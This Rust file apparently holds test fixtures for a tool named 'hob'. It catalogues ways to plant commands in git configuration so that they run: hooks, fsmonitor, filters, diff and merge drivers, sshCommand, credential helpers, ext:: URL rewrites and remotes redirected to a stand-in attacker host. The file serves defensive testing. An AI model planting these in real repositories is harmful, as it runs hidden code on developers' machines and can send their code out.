//! Ways to plant a command in a repository's configuration. Each script also runs the git command
//! that sets it off, in the container, where that is possible there.

use super::plants::{Expect, Plant, REFUSED, plant};

use Expect::{Either, Pull};

/// The hooks that git knows: one way each, in both of the places for them.
const HOOKS: usize = 28;

/// Commands that the scripts set off themselves, hooks beside them. A plant that is dead would
/// prove nothing about hob.
pub const ALIVE: &[&str] = &[
    "fsmonitor",
    "filter-clean",
    "filter-smudge",
    "filter-process",
    "diff-external",
    "diff-command",
    "textconv",
    "merge-driver",
    "ssh-command",
    "credential-helper",
    "upload-pack",
    "receive-pack",
    "ext-fetch",
    "ext-push",
    "promisor",
    "alternate-refs",
    "worktree-config",
    "nested",
    "gitlink",
    "core.editor",
    "trailer.x.cmd",
    "hook-pre-commit",
    "hook-post-commit",
    "hook-post-checkout",
    "hook-reference-transaction",
    "hook-post-index-change",
    "path-pre-commit",
    "path-post-checkout",
    "path-reference-transaction",
];

/// All of them.
pub const PLANTS: &[Plant] = &[
    plant("core.fsmonitor", Pull, r#"work; git config core.fsmonitor "$(commands fsmonitor)"; git status"#),
    plant(
        "a core.fsmonitor that never ends",
        Pull,
        r#"work; git config core.fsmonitor "while :; do sleep 60; done; :""#,
    ),
    Plant {
        name: "every hook in .git/hooks",
        ways: HOOKS,
        expect: Pull,
        script: r#"
mkdir -p .git/hooks
for hook in applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg \
  post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update \
  reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman p4-changelist \
  p4-prepare-changelist p4-post-changelist p4-pre-submit post-index-change; do
  printf '#!/bin/sh\n%s\n' "$(commands "hook-$hook")" >".git/hooks/$hook"
  chmod +x ".git/hooks/$hook"
done
work; git checkout -q --detach; git checkout -q -; git rebase -q HEAD~1; git merge -q HEAD~1; git status"#,
    },
    Plant {
        name: "every hook by core.hooksPath",
        ways: HOOKS,
        expect: Pull,
        script: r#"
mkdir -p .git/elsewhere
for hook in applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg \
  post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update \
  reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman p4-changelist \
  p4-prepare-changelist p4-post-changelist p4-pre-submit post-index-change; do
  printf '#!/bin/sh\n%s\n' "$(commands "path-$hook")" >".git/elsewhere/$hook"
  chmod +x ".git/elsewhere/$hook"
done
git config core.hooksPath .git/elsewhere
work; git checkout -q --detach; git checkout -q -; git status"#,
    },
    plant(
        "a clean and a smudge filter",
        Pull,
        r#"
attributes '* filter=evil'
git config filter.evil.clean "$(commands filter-clean); cat"
git config filter.evil.smudge "$(commands filter-smudge); cat"
work; rm work.txt; git checkout -q work.txt; touch README.md"#,
    ),
    plant(
        "a filter process",
        // git gives up on the repository where the process does not speak the protocol.
        Either,
        r#"
work; attributes '* filter=evil'
git config filter.evil.process "$(commands filter-process)"
touch README.md; git status || true"#,
    ),
    plant(
        "diff.external",
        Pull,
        r#"work; git config diff.external "$(commands diff-external)"; git diff HEAD~1"#,
    ),
    plant(
        "a diff driver's command",
        Pull,
        r#"work; attributes '* diff=evil'; git config diff.evil.command "$(commands diff-command)"; git diff HEAD~1"#,
    ),
    plant(
        "a diff driver's textconv",
        Pull,
        r#"
work; attributes '* diff=evil'
git config diff.evil.textconv "$(commands textconv); cat"; git config diff.evil.cachetextconv false
git diff HEAD~1"#,
    ),
    plant(
        "a merge driver",
        Pull,
        r#"
work; attributes '* merge=evil'; git config merge.evil.driver "$(commands merge-driver)"
git checkout -q -b side HEAD~1; echo other >work.txt; git add work.txt; git commit -qm Other; git checkout -q -
git merge --no-commit side; git merge --abort; git reset -q --hard; git branch -D side"#,
    ),
    plant(
        "core.sshCommand",
        Pull,
        r#"
work; git config remote.origin.url ssh://git@attacker.invalid/x
git config core.sshCommand "$(commands ssh-command)"; git fetch || true"#,
    ),
    plant(
        "core.gitProxy",
        Pull,
        r#"
work; git config remote.origin.url git://attacker.invalid/x
git config core.gitProxy "$(program git-proxy)"; git fetch || true"#,
    ),
    plant(
        "credential.helper",
        Pull,
        r#"
work; git config credential.helper "!$(commands credential-helper)"
printf 'protocol=https\nhost=x\n\n' | GIT_TERMINAL_PROMPT=0 git credential fill || true"#,
    ),
    plant("core.askPass", Pull, r#"work; git config core.askPass "$(program ask-pass)""#),
    Plant {
        name: "a remote's uploadpack and receivepack",
        ways: 2,
        expect: Pull,
        script: r#"
work; git config remote.origin.url /workspace/.git
git config remote.origin.uploadpack "$(commands upload-pack); git-upload-pack"
git config remote.origin.receivepack "$(commands receive-pack); git-receive-pack"
git fetch -q || true; git push -q origin HEAD:refs/tags/zz || true"#,
    },
    Plant {
        name: "ext:: by insteadOf, with protocol.ext.allow",
        ways: 2,
        expect: Pull,
        script: r#"
work; git config "url.$(ext ext-fetch).insteadOf" "$(git config remote.origin.url)"; git fetch || true"#,
    },
    plant(
        "ext:: by pushInsteadOf",
        Pull,
        r#"
work; git config "url.$(ext ext-push).pushInsteadOf" "$(git config remote.origin.url)"; git push origin HEAD || true"#,
    ),
    Plant {
        name: "the attacker's address by insteadOf, pushInsteadOf and pushurl",
        ways: 3,
        expect: Pull,
        script: r#"
work; origin=$(git config remote.origin.url)
git config "url.$attacker/.insteadOf" "${origin%/*/*}/"
git config "url.$attacker/.pushInsteadOf" "${origin%/*/*}/"
git config remote.origin.pushurl "$attacker/acme/tool.git""#,
    },
    plant(
        "a promisor remote for a missing object",
        REFUSED,
        r#"
work; git config core.repositoryFormatVersion 1; git config extensions.partialClone origin
git config remote.origin.promisor true; git config remote.origin.url "$(ext promisor)"
steal 1111111111111111111111111111111111111111
git rev-list --objects HEAD; git cat-file -p 1111111111111111111111111111111111111111; true"#,
    ),
    Plant {
        name: "pagers, editors, signers, trailers, aliases and viewers",
        ways: 17,
        expect: Pull,
        script: r#"
work
for key in core.pager pager.status pager.log pager.diff core.editor sequence.editor interactive.diffFilter \
  trailer.x.command trailer.x.cmd gpg.ssh.defaultKeyCommand; do git config "$key" "$(commands "$key")"; done
for key in gpg.program gpg.ssh.program gpg.x509.program; do git config "$key" "$(program "$key")"; done
git config commit.gpgSign true; git config tag.gpgSign true; git config trailer.x.key X
for name in status bundle rev-parse rev-list merge-base; do git config "alias.$name" "!$(commands "alias-$name")"; done
git config web.browser x; git config browser.x.cmd "$(commands browser)"
git config man.viewer x; git config man.x.cmd "$(commands man)"
GIT_EDITOR= git commit --amend --no-gpg-sign -q --no-edit; git commit --amend -q --no-gpg-sign </dev/null || true
echo t | git interpret-trailers --trailer x=y || true"#,
    },
    Plant {
        name: "include.path and includeIf to a file outside",
        ways: 2,
        expect: Pull,
        script: r#"
work; git config include.path "$canary/included.gitconfig"
git config "includeIf.gitdir:/.path" "$canary/included.gitconfig""#,
    },
    plant(
        "a submodule's update command",
        Pull,
        r#"
work; mkdir -p .git/info; echo .gitmodules >>.git/info/exclude
git config -f .gitmodules submodule.sub.path sub; git config -f .gitmodules submodule.sub.url /workspace/.git
git config submodule.sub.update "!$(commands submodule)"; git config submodule.sub.active true
git config submodule.recurse true"#,
    ),
    plant(
        "uploadpack.packObjectsHook",
        Pull,
        r#"
work; git config remote.origin.url /workspace/.git
git config uploadpack.packObjectsHook "$(commands pack-objects)"; git fetch -q || true"#,
    ),
    plant(
        "core.alternateRefsCommand",
        Pull,
        r#"
work; git config core.alternateRefsCommand "$(commands alternate-refs)"
git push -q /workspace/.git HEAD:refs/tags/zz || true"#,
    ),
    plant(
        "the configuration of a worktree",
        Pull,
        r#"
work; git config extensions.worktreeConfig true; git worktree add -q --detach "$HOME/beside"
git config --worktree core.fsmonitor "$(commands worktree-config)"; git status"#,
    ),
    plant(
        "a nested repository with settings of its own",
        Pull,
        r#"
mkdir -p .git/info; echo nested/ >>.git/info/exclude; git init -q nested; echo x >nested/file
git -C nested config core.fsmonitor "$(commands nested)"; git -C nested status; work"#,
    ),
    plant(
        "a nested repository committed as a submodule",
        Either,
        r#"
work; git init -q nested; git -C nested commit -q --allow-empty -m x
git -C nested config core.fsmonitor "$(commands gitlink)"; git add nested; git commit -qm Nested; git status"#,
    ),
];
